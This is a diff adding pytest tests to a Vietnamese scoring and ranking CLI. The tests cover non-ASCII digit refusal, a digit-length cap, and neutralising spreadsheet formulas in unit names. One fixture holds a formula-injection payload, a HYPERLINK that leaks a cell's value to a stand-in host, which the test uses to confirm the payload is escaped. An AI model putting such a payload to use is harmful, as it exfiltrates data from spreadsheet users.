@@ -13,6 +13,7 @@ import openpyxl
 import pytest
 
 from dti.cli import main
+from dti.engine import read_table
 
 ROOT = Path(__file__).resolve().parents[1]
 NINH_BINH = str(ROOT / "frameworks" / "ninh-binh-2023-huyen.yaml")
@@ -464,6 +465,18 @@ def test_score_output_format_from_extension(fw: str, inputs: str, tmp_path: Path
     assert "60,12" in text_target.read_text(encoding="utf-8")
 
 
+@pytest.mark.parametrize("typed", ["١٢", "１２"])
+def test_score_refuses_digits_other_than_ascii(fw: str, tmp_path: Path, typed: str) -> None:
+    """Issue 10 §4: "١٢" is refused with one line, never read as 12."""
+    path = write(tmp_path / "so.csv", f"unit,code,field,value\nA,general,dan_so,1000\nA,I.3,a,{typed}\n")
+    bad("score", fw, path, names=(path, "dòng 3, cột D", f"'{typed}' có chữ số không phải 0–9"))
+
+
+def test_score_refuses_a_figure_beyond_the_cap(fw: str, tmp_path: Path) -> None:
+    path = write(tmp_path / "lon.csv", f"unit,code,field,value\nA,general,dan_so,{'9' * 4000}\nA,I.3,a,5\n")
+    bad("score", fw, path, names=(path, "dòng 2, cột D", "tối đa 15 chữ số"))
+
+
 def test_score_bad_input(fw: str, inputs: str, tmp_path: Path) -> None:
     missing = str(tmp_path / "khong-co.yaml")
     bad("score", fw, missing, names=(missing, "không tìm thấy"))
@@ -793,3 +806,34 @@ def test_no_traceback_from_the_installed_command(tmp_path: Path) -> None:
     assert done.returncode == 2
     assert done.stderr.startswith("dti: ")
     assert "Traceback" not in done.stderr
+
+
+FORMULA_NAMES = ['=HYPERLINK("http://x.example/?leak="&A2,"Xem")', "+1", "-x", "@SUM(A1)"]
+
+
+def test_rank_csv_and_xlsx_neutralise_formula_unit_names(tmp_path: Path) -> None:
+    """Issue 10 §3: a unit name a spreadsheet would run is written with a leading apostrophe, read back
+    by our reader as the name; numbers stay numbers. (A leading tab or CR never reaches a writer: the
+    results reader trims names.)"""
+    with Path(NINH_BINH_RESULTS).open(encoding="utf-8") as handle:
+        rows = list(csv.reader(handle))
+    renamed = dict(zip((row[0] for row in rows[1:]), FORMULA_NAMES, strict=False))
+    source = tmp_path / "ket-qua.csv"
+    with source.open("w", encoding="utf-8", newline="") as handle:
+        csv.writer(handle).writerows([rows[0], *([renamed.get(row[0], row[0]), *row[1:]] for row in rows[1:])])
+    code, out, _ = run("rank", NINH_BINH, str(source), "--format", "csv")
+    assert code == 0
+    units = [record["unit"] for record in csv.DictReader(io.StringIO(out))]
+    assert {"'" + name for name in FORMULA_NAMES} <= set(units) and not set(FORMULA_NAMES) & set(units)
+    written = tmp_path / "xep-hang.csv"
+    written.write_text(out, encoding="utf-8")
+    expected = [renamed.get(unit, unit) for unit, _, _, _ in NINH_BINH_RANKING]
+    assert [row.cells["unit"].value for row in read_table(written).rows] == expected
+    target = tmp_path / "xep-hang.xlsx"
+    assert run("rank", NINH_BINH, str(source), "-o", str(target)) == (0, "", "")
+    sheet = openpyxl.load_workbook(target).active
+    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
+    assert all(cell.data_type == "s" for cell in cells)  # text, never a formula
+    assert {"'" + name for name in FORMULA_NAMES} <= {cell.value for cell in cells}
+    assert [row.cells["unit"].value for row in read_table(target).rows] == expected
+    assert isinstance(sheet.cell(row=2, column=[c.value for c in sheet[1]].index("total") + 1).value, float)
